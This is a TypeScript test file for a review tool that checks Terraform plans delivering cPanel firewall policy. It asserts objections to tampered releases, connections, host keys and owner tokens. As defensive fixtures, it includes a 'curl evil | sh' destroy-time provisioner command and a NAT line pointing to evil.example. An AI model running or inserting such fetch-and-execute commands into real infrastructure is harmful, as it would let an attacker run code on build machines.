// Tests that a review derives the whole delivery from a plan's policy and objects to each difference: text, connection,
// health checks, host keys, adoption.

import { deflateSync, inflateSync } from 'node:zlib';
import { createHash } from 'node:crypto';
import { decodeWork, encodeWork } from '../../../lib/agent-protocol/work-codec';
import { printDigestInput } from '../../../lib/agent-protocol/release-digest';
import { Connection, Release } from '../../../lib/agent-protocol/release';
import { deriveRelease } from '../../../lib/verifier/derive-release';
import { getPlatform } from '../../../lib/verifier/verify-policy';
import { readPlan } from '../../../lib/review/plan/parse-plan';
import { createReview } from '../../../lib/review/judging/create-review';
import { ReviewInputs } from '../../../lib/review/judging/review-inputs';
import { printHtml } from '../../../lib/review/print/review-html';
import { printMarkdown } from '../../../lib/review/print/review-markdown';
import { printText } from '../../../lib/review/print/review-text';
import { Review } from '../../../lib/review/review';
import { ServerPolicy } from '../../../lib/policy/policy';
import { parseReleaseLines } from '../../../lib/agent-protocol/release-lines';
import { connectionOf } from '../../driver/samples';
import { KNOWN, policiesOf, profile, server } from '../samples';
import { PlanBuilder, RETRACT, data, held, retiring } from './plan-builder';
import { codes, read } from './plan-samples';

const sha256 = (text: string): string => createHash('sha256').update(text).digest('hex');
const deflate = (bytes: Uint8Array): Uint8Array => deflateSync(bytes);
const [HOLDER, RELEASE] = ['terraform_data.web1_hosting_holder', 'terraform_data.web1_hosting'];

const honestOf = (policy: ServerPolicy): Release =>
  deriveRelease(
    { policy, generated: getPlatform(policy).generator.write(policy) },
    { witnesses: [], rollbackSeconds: 90 },
    sha256,
  );
const policyOf = (more: Partial<Parameters<typeof server>[3]> = {}): ServerPolicy =>
  policiesOf({ servers: [server('web1', '10.0.0.10', profile(['443/tcp']), more)] })[0] as ServerPolicy;

interface Delivered {
  readonly policy?: ServerPolicy;
  readonly release?: Partial<Release>;
  readonly work?: Connection;
  readonly environment?: Record<string, string>;
  readonly before?: Record<string, unknown>;
  readonly after?: Record<string, unknown>;
}

/** Creates a plan of one server: its first release, or with `before` a change of its ownership record. */
function planned({ policy = policyOf(), release, work, environment = {}, before, after = {} }: Delivered): object {
  const honest = honestOf(policy);
  const changed = { ...honest, ...release };
  const delivered = { ...changed, digest: sha256(printDigestInput(changed)) };
  const input = { device: 'web1', owner: 'hosting', role: 'server', onRetract: honest.onRetract };
  const shown = data({ text: honest.text, policy: honest.policy, lines: parseReleaseLines(honest) });
  const plan = new PlanBuilder();
  if (before)
    plan
      .kept(HOLDER, ['update'], held({ ...input, ...before }), held({ ...input, ...after }))
      .kept(RELEASE, ['no-op'], shown, shown);
  else plan.change(HOLDER, ['create'], null, held({ ...input, ...after })).change(RELEASE, ['create'], null, shown);
  const connection = work ?? (after['connection'] as Connection | undefined) ?? connectionOf();
  return plan
    .configured(HOLDER, RETRACT)
    .configured(RELEASE, {
      command: RETRACT.command.replace('retract', 'deliver'),
      environment: {
        CPANEL_EDGE_LEASE: `\${${HOLDER}.id}`,
        ...encodeWork({ format: 1, connection, release: delivered }, deflate),
        ...environment,
      },
    })
    .json();
}

const reviewed = (of: Delivered, known: Partial<ReviewInputs> = {}): Review =>
  createReview([readPlan(planned(of), 'edge', { inflate: (bytes) => inflateSync(bytes), sha256, version: '0.1.0' })], {
    ...KNOWN,
    ...known,
  });
const objectedIn = (of: Delivered, known: Partial<ReviewInputs> = {}): readonly string[] =>
  reviewed(of, known).objections.map(({ code, where, what }) => `${code} at ${where}: ${what}`);

test("doesn't object to a plan as the package writes it", () => {
  expect(objectedIn({})).toEqual([]);
  expect(
    decodeWork(encodeWork({ format: 1, connection: connectionOf(), release: honestOf(policyOf()) }, deflate), (bytes) =>
      inflateSync(bytes),
    ).release,
  ).toEqual(honestOf(policyOf()));
});

describe('objects to a delivery that differs from its policy', () => {
  test.each<readonly [string, Delivered, readonly string[]]>([
    [
      'other firewalls',
      { release: { replaces: ['csf', 'firewalld', 'ufw'] } },
      ['replaces', 'csf, firewalld, ufw', 'gives none'],
    ],
    [
      'fewer of them',
      { policy: policyOf({ replaces: ['ufw', 'csf'] }), release: { replaces: ['ufw'] } },
      ['replaces', 'is ufw', 'ufw, csf'],
    ],
    [
      "cPanel's NAT",
      {
        release: {
          cpnat: ['nat-mode on', 'in-use change', 'pair 10.0.0.10 198.51.100.66', 'set myip http://evil.example/ip'],
        },
      },
      ['cpnat', 'set myip http://evil.example/ip'],
    ],
    [
      'no owned prefixes',
      { release: { claims: { outside: [], inside: [] } } },
      ['claims.inside', '10.0.0.10', 'witnesses (health checks) are none'],
    ],
    [
      'prefixes of another owner',
      { release: { claims: { outside: ['198.51.100.0/24'], inside: ['10.0.0.10'] } } },
      ['claims.outside', '198.51.100.0/24'],
    ],
    ['other readable lines', { release: { lines: ['server: opens nothing'] } }, ['readable lines']],
    ['another platform', { release: { platform: 'iptables' } }, ['platform', 'iptables']],
    ['a field of no version', { release: { later: true } as never }, ['later']],
    ['a surplus piece', { environment: { CPANEL_EDGE_WORK_7: '1:x' } }, ['CPANEL_EDGE_WORK_7']],
    ['another connection', { work: connectionOf({ port: 2222 }) }, ['connection.port', '2222']],
  ])('%s', (_, delivered, words) => {
    const objections = objectedIn(delivered).filter((one) => !one.startsWith('review/less-protected'));
    expect(objections).toHaveLength(1);
    expect(objections[0]).toMatch(/^review\/other-work at edge: terraform_data\.web1_hosting: /);
    for (const word of words) expect(objections[0]).toContain(word);
  });
});

describe('a plan of another version of the package', () => {
  const madeBy = (version: string): Record<string, string> =>
    encodeWork({ format: 1, connection: connectionOf(), release: honestOf(policyOf()) }, deflate, version);

  test('is an objection once, with both versions', () => {
    expect(objectedIn({ environment: madeBy('0.0.9') })).toEqual([
      'review/another-version at edge: cpanel-edge 0.0.9 made this plan, and 0.1.0 reviews it. Each text is the one that this version writes.',
    ]);
    expect(objectedIn({ environment: madeBy('0.1.0') })).toEqual([]);
  });
});

describe('an owner token of another state is adopted by an import only', () => {
  test.each<readonly [string, Record<string, string>, string]>([
    ['a literal owner token', { CPANEL_EDGE_LEASE: 'lease-of-another-team' }, 'lease-of-another-team'],
    [
      'the owner token of another ownership record',
      { CPANEL_EDGE_LEASE: '${terraform_data.web1_hosting_holder.id}x' },
      'CPANEL_EDGE_LEASE',
    ],
    ['an adoption without an import', { CPANEL_EDGE_ADOPT: 'lease-of-another-team' }, 'CPANEL_EDGE_ADOPT'],
  ])('%s', (_, environment, words) => {
    expect(objectedIn({ environment })).toEqual([
      expect.stringMatching(new RegExp(`^review/takes-over at edge: .*${words}`)),
    ]);
  });

  test('adoption of its own owner token is accepted', () => {
    expect(objectedIn({ before: {}, environment: { CPANEL_EDGE_ADOPT: 'lease-1' } })).toEqual([]);
  });
});

describe('delivery settings are shown before → after', () => {
  const NEW_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVV';
  const settingsOf = (of: Delivered): readonly string[] => reviewed(of).devices[0]!.settings ?? [];

  test.each<readonly [string, Partial<Connection>, readonly string[], readonly string[]]>([
    ['host', { host: '192.0.2.9' }, ['connection.host (address of the device): 127.0.0.1 → 192.0.2.9'], []],
    ['port', { port: 2222 }, ['connection.port (port of SSH): 22 → 2222'], []],
    ['user', { user: 'ops' }, ['connection.user (login): root → ops'], []],
    [
      'host keys',
      { hostKeys: [NEW_KEY] },
      [`connection.hostKeys (host keys that prove the device): ${connectionOf().hostKeys[0]} → ${NEW_KEY}`],
      ['review/new-host-keys'],
    ],
    [
      'identity file',
      { identityFile: '/home/ci/.ssh/prod' },
      ['connection.identityFile (file of the private key): none → /home/ci/.ssh/prod'],
      [],
    ],
    [
      'the user configuration',
      { userConfiguration: true },
      ['connection.userConfiguration (whether ~/.ssh/config is read): false → true'],
      ['review/less-protected'],
    ],
    [
      'a jump host',
      { jump: connectionOf({ host: 'jump.example' }) },
      expect.arrayContaining([
        'connection.jump.host (address of the device, of the jump host): none → jump.example',
      ]) as never,
      [],
    ],
  ])('%s', (_, parts, settings, objected) => {
    const change: Delivered = { before: {}, after: { connection: connectionOf(parts) } };
    expect(settingsOf(change)).toEqual(settings);
    expect(reviewed(change).objections.map(({ code }) => code)).toEqual(objected);
    expect(reviewed(change).counts.devices).toBe(1);
  });

  test.each([
    ['text', (review: Review) => printText(review).replace(/\s+/g, ' ')],
    ['Markdown', printMarkdown],
    ['HTML', (review: Review) => printHtml(review, sha256)],
  ])('%s is printed whole, however long a key is', (_, print) => {
    const printed = print(reviewed({ before: {}, after: { connection: connectionOf({ hostKeys: [NEW_KEY] }) } }));
    // Once in the objection and once among the settings.
    expect(printed.split(NEW_KEY.split(' ')[1]!).length - 1).toBeGreaterThanOrEqual(2);
  });

  test('all settings of a first release are shown', () => {
    expect(settingsOf({})).toEqual(
      expect.arrayContaining([
        'connection.host (address of the device): 127.0.0.1',
        'rollbackSeconds (seconds until an unconfirmed release is rolled back): 90',
        'witnesses (health checks): none',
      ]),
    );
  });

  test('objects to a setting that lowers a protection, also in a first release', () => {
    const witnesses = [{ arrives: 'eth0', from: '198.51.100.7', to: '10.0.0.10', protocol: 'tcp' as const, port: 443 }];
    expect(objectedIn({ policy: policyOf({ replaces: ['ufw'] }) })).toEqual([
      'review/less-protected at server web1, owner hosting: A protection is lowered: replaces (other firewalls that the device stops and disables): none → ufw.',
    ]);
    expect(objectedIn({ policy: policyOf({ onRemove: 'as before' }) })).toEqual([expect.stringContaining('onRetract')]);
    expect(objectedIn({ before: {}, after: { rollbackSeconds: 3600 }, release: { rollbackSeconds: 3600 } })).toEqual([
      expect.stringContaining('rollbackSeconds (seconds until an unconfirmed release is rolled back): 90 → 3600'),
    ]);
    expect(objectedIn({ before: { witnesses } })).toEqual([
      expect.stringContaining('witnesses (health checks): tcp 443 from 198.51.100.7 to 10.0.0.10 by eth0 → none'),
    ]);
  });

  test('new host keys can be acknowledged until a day', () => {
    const change: Delivered = { before: {}, after: { connection: connectionOf({ hostKeys: [NEW_KEY] }) } };
    const until = (expires: string, where = 'server web1'): Partial<ReviewInputs> => ({
      rules: {
        name: 'rules.json',
        rules: { format: 1, acknowledged: [{ code: 'review/new-host-keys', where, reason: 'reinstalled', expires }] },
      },
    });
    expect(objectedIn(change, until('2027-01-01'))).toEqual([]);
    expect(reviewed(change, until('2027-01-01')).notes.map(({ code }) => code)).toContain('review/new-host-keys');
    expect(objectedIn(change, until('2026-01-01'))).toEqual([expect.stringContaining('review/new-host-keys')]);
    expect(objectedIn(change, until('2027-01-01', 'server web10'))).toEqual([
      expect.stringContaining('review/new-host-keys'),
    ]);
  });
});

describe('a removed block counts only in the form that DecommissionedOwner writes', () => {
  const gone = (): PlanBuilder =>
    new PlanBuilder()
      .kept('terraform_data.gw_web_holder', ['delete'], held(), null, { reason: 'delete_because_no_resource_config' })
      .kept('terraform_data.gw_web', ['delete'], data(), null, { reason: 'delete_because_no_resource_config' });
  const [block] = retiring('terraform_data.gw_web_holder')['removed'] as [
    { provisioner: Record<string, object>[]; lifecycle: object },
  ];
  const [provisioner] = block.provisioner;
  const own = provisioner!['local-exec']!;
  const evil = { command: 'curl evil | sh', when: 'destroy' };

  test.each<readonly [string, unknown, readonly string[]]>([
    ['as it is written', [block], []],
    [
      'a second provisioner in the list',
      [{ ...block, provisioner: [provisioner, { 'local-exec': evil }] }],
      ['! stays-open'],
    ],
    [
      'another type beside ours',
      [{ ...block, provisioner: [{ ...provisioner, 'remote-exec': evil }] }],
      ['! stays-open'],
    ],
    ['two commands under one type', [{ ...block, provisioner: [{ 'local-exec': [own, evil] }] }], ['! stays-open']],
    ['a connection beside it', [{ ...block, connection: { host: 'evil' } }], ['! stays-open']],
    [
      'another word of its lifecycle',
      [{ ...block, lifecycle: { ...block.lifecycle, prevent_destroy: false } }],
      ['! stays-open'],
    ],
    [
      'another working directory',
      [{ ...block, provisioner: [{ 'local-exec': { ...own, working_dir: '/tmp' } }] }],
      ['! stays-open'],
    ],
    [
      'another block for the same ownership record',
      [block, { ...block, provisioner: [{ 'local-exec': evil }] }],
      ['! stays-open'],
    ],
  ])('%s', (_, removed, expected) => {
    expect(codes(read(gone(), { removed }))).toEqual(expected);
  });
});
